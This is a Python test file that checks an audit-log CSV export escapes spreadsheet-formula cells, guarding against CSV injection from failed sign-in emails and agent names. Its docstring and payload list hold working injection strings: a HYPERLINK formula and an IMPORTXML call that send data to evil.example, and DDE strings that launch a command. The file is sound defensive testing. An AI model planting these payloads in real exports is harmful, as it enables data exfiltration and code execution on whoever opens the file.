"""CSV injection: the audit CSV export never hands a spreadsheet a formula.

Anyone can put text in the audit log: a failed sign-in records the email typed, by a
visitor with no account; an agent's name is an admin's (or a `tf run`'s) choice. The admin
opens the CSV export in Excel, LibreOffice or Google Sheets, which run a cell starting with
`=`, `+`, `-` or `@` (a tab or carriage return first too) as a formula:
`=HYPERLINK("http://evil.example/?"&A2, "click")` sends the log's cells away. Such a cell is
exported behind a `'` (OWASP's escaping: shown as text). The JSON Lines export keeps every
value as stored, and still verifies offline.
"""

from __future__ import annotations

import csv
import io
import json
import re

from agentfirewall_server.audit import export_csv
from agentfirewall_server.checkpoints import verify_export
from tests.server.conftest import Harness

#: Cells a spreadsheet runs (or re-parses into one it runs), one per attack.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"click")',  # exfiltration link
    "=cmd|' /C calc'!A0",  # DDE command execution (Excel)
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=IMPORTXML("http://evil.example","//a")',  # Google Sheets fetch
    "\r=1+1",
]
_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_no_cell_of_an_export_starts_a_formula() -> None:
    """Every column, each attack: escaped with one `'`, the rest of the value as it was."""
    columns = ["event_type", "actor", "agent", "subject", "prev_hash", "hash", "created_at"]
    events = [
        {"id": i, "data": {"email": f}, **{c: f for c in columns}} for i, f in enumerate(FORMULAS)
    ]
    events.append({"id": 99, "data": None, **{c: "plain-text value" for c in columns}})
    rows = _cells(export_csv(events))
    assert len(rows) == len(events)
    for row, formula in zip(rows, FORMULAS, strict=False):
        for column in columns:  # (a tab or CR then `=`: a `'` after it too, see
            # test_audit_csv_injection.py: a reader splitting there would run the rest)
            assert row[column] == "'" + re.sub(r"^([\t\r])=", r"\1'=", formula), column
        assert row["data"] == json.dumps({"email": formula})  # JSON starts with `{`
    assert rows[-1]["subject"] == "plain-text value"  # nothing else changes
    assert rows[-1]["data"] == "null"


def test_a_visitors_failed_sign_in_exports_as_text(harness: Harness) -> None:
    h = harness
    for formula in FORMULAS:
        r = h.call("POST", "/v1/auth/login", json={"email": formula, "password": "x"})
        assert r.status_code in (400, 401, 422, 429), r.text  # 429: sign-ins throttled
    h.create_agent("=cmd|' /C calc'!A0")
    text = h.admin("GET", "/v1/audit/export", params={"format": "csv"}).text
    rows = _cells(text)
    cells = [v for row in rows for v in row.values()]
    assert not [v for v in cells if v.startswith(_STARTS)]
    subjects = {row["subject"] for row in rows}
    agents = {row["agent"] for row in rows}
    recorded = [f.lower() for f in FORMULAS if "'" + f.lower() in subjects]  # emails: lowercased
    assert FORMULAS[0].lower() in recorded, "the failed sign-in was not recorded: nothing checked"
    assert "'=cmd|' /C calc'!A0" in agents

    # the JSON Lines export: the values as stored, and it verifies offline
    lines = h.admin("GET", "/v1/audit/export", params={"format": "jsonl"}).text.splitlines(True)
    events = [json.loads(line) for line in lines if '"record"' not in line]
    assert set(recorded) <= {e["subject"] for e in events}
    assert "=cmd|' /C calc'!A0" in {e["agent"] for e in events}
    key = h.state.signing_key
    result = verify_export(lines, {key.kid: key.public_key})
    assert result.ok, result
